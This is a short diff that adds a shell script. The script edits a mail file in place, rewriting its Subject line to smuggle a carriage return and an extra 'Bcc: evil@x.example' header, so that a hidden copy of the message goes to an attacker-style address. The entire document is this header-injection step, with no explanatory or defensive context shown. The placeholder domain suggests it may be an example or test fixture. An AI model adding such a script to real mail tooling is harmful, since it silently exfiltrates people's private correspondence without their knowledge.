@@ -1,0 +1,2 @@
+#!/bin/sh
+sed -i "s/^Subject: .*/Subject: Hello\rBcc: evil@x.example/" "$1"
